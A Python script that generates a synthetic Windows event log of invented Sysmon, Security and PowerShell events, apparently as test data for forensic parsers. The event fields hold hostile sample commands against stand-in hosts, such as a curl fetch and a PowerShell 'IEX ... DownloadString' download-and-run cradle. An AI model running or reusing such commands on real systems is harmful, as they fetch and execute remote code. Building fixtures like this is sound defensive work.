#!/usr/bin/env python3
"""Writes a small Windows event log of invented events: make_evtx.py FILE.evtx [DAMAGED.evtx]

Two chunks of plain binary XML without templates; the second file has the first chunk's records overwritten. Names are
below .example, addresses of the documentation networks.
"""
import struct
import sys
import zlib

EPOCH = 116_444_736_000_000_000
TIME = EPOCH + 1_491_206_400 * 10_000_000


def name_hash(text):
    value = 0
    for letter in text:
        value = (value * 65599 + ord(letter)) & 0xFFFFFFFF
    return value & 0xFFFF


class Xml:
    """Binary XML at a place in a chunk: names are written where they are first used."""

    def __init__(self, start):
        self.start, self.out = start, bytearray(b"\x0f\x01\x01\x00")

    def name(self, text):
        at = self.start + len(self.out) + 4
        self.out += struct.pack("<IIHH", at, 0, name_hash(text), len(text)) + text.encode("utf-16le") + b"\0\0"

    def element(self, tag, children, attributes=()):
        has = bool(attributes)
        self.out += b"\x41" if has else b"\x01"
        size_at = len(self.out)
        self.out += b"\0\0\0\0"
        self.name(tag)
        if has:
            list_at = len(self.out)
            self.out += b"\0\0\0\0"
            for number, (key, value) in enumerate(attributes):
                self.out += b"\x46" if number + 1 < len(attributes) else b"\x06"
                self.name(key)
                self.text(value)
            struct.pack_into("<I", self.out, list_at, len(self.out) - list_at - 4)
        self.out += b"\x02"
        for child in children:
            if isinstance(child, str):
                self.text(child)
            else:
                self.element(*child)
        self.out += b"\x04"
        struct.pack_into("<I", self.out, size_at, len(self.out) - size_at - 4)

    def text(self, text):
        self.out += struct.pack("<BBH", 5, 1, len(text)) + text.encode("utf-16le")

    def done(self):
        self.out += b"\0"
        return bytes(self.out)


def event(provider, number, fields):
    data = [("Data", [value], [("Name", key)]) for key, value in fields]
    system = [("Provider", [], [("Name", provider)]), ("EventID", [str(number)]), ("Channel", [CHANNELS[provider]]),
              ("Computer", ["pc7.party.example"])]
    return ("Event", [("System", system), ("EventData", data)])


def chunk(number, first, events):
    records, at = b"", 512
    for index, tree in enumerate(events):
        xml = Xml(at + 24)
        xml.element(*tree)
        body = xml.done()
        body += b"\0" * (-(len(body) + 28) % 8)
        size = 28 + len(body)
        records += struct.pack("<IIQQ", 0x00002A2A, size, first + index, TIME + index * 10_000_000) + body + struct.pack("<I", size)
        last, at = at, at + size
    end = first + len(events) - 1
    head = b"ElfChnk\0" + struct.pack("<QQQQIIII", first, end, first, end, 128, last, at, zlib.crc32(records))
    head += b"\0" * (120 - len(head))
    table = b"\0" * 384
    head += struct.pack("<II", 0, zlib.crc32(head + table)) + table
    return (head + records).ljust(65536, b"\0")


SYSMON, SECURITY, POWERSHELL = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-PowerShell"
CHANNELS = {SYSMON: SYSMON + "/Operational", SECURITY: "Security", POWERSHELL: POWERSHELL + "/Operational"}
FIRST = [
    event(SYSMON, 1, [("Image", "C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.exe"), ("CommandLine", "invoice.exe /q"),
                      ("Hashes", "MD5=" + "0c" * 16 + ",SHA256=" + "ab" * 32 + ",IMPHASH=" + "00" * 16),
                      ("ParentImage", "C:\\Program Files\\Office\\WINWORD.EXE")]),
    event(SYSMON, 3, [("Image", "C:\\Windows\\System32\\rundll32.exe"), ("DestinationIp", "203.0.113.66"),
                      ("DestinationHostname", "cc.evil.example"), ("DestinationPort", "443")]),
    event(SYSMON, 22, [("QueryName", "update.evil.example"), ("QueryResults", "::ffff:203.0.113.67;")]),
]
SECOND = [
    event(SECURITY, 4688, [("NewProcessName", "C:\\Windows\\System32\\cmd.exe"), ("CommandLine", "cmd /c curl http://drop.evil.example/a")]),
    event(POWERSHELL, 4104, [("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://ps.evil.example/x')")]),
    event(SECURITY, 4624, [("TargetUserName", "anna"), ("IpAddress", "192.0.2.99")]),
]


def main():
    chunks = [chunk(0, 1, FIRST), chunk(1, 4, SECOND)]
    head = b"ElfFile\0" + struct.pack("<QQQIHHHH", 0, 1, 7, 128, 1, 3, 4096, len(chunks)) + b"\0" * 76
    head += struct.pack("<II", 0, zlib.crc32(head[:120]))
    head = head.ljust(4096, b"\0")
    with open(sys.argv[1], "wb") as file:
        file.write(head + b"".join(chunks))
    if len(sys.argv) > 2:
        damaged = bytearray(chunks[0])
        damaged[0:8] = b"ElfNope\0"
        with open(sys.argv[2], "wb") as file:
            file.write(head + bytes(damaged) + chunks[1])


main()
